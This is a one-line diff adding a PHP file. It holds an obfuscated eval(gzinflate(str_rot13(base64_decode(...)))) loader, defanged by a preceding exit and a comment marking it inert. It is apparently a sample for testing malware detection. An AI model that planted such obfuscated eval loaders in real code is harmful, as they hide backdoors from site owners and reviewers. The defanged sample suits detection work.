@@ -1,0 +1,1 @@
+<?php exit; /* inert */ eval(gzinflate(str_rot13(base64_decode("K64sLlbN1UOJD2UNDGgNDolJV0mK1bQGAA=="))));
